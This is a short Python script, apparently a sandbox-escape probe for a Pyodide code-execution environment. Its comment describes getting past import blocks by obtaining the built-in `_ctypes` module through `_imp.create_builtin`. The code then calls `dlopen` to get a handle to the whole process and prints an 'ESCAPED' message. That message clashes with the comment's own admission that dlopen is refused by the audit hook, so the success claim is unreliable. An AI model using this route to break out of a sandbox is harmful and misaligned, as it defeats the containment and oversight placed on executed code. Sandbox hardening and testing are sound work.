# Route (gets past the import blocks): `_ctypes` is a built-in module in Pyodide, so
# _imp.create_builtin hands it out without consulting sys.meta_path or raising the "import" audit
# event. Loading a library raises the "ctypes.dlopen" audit event, which the sandbox's audit hook
# refuses; any foreign call would moreover go through Pyodide's JavaScript libffi, which trips the
# engine's bridge tripwire and gets the interpreter replaced after the run.
import _imp
import importlib.machinery

_ctypes = _imp.create_builtin(importlib.machinery.BuiltinImporter.find_spec("_ctypes"))
handle = _ctypes.dlopen(None, 0)
print(f"ESCAPED: _ctypes.dlopen gave a handle to the whole process: {handle}")
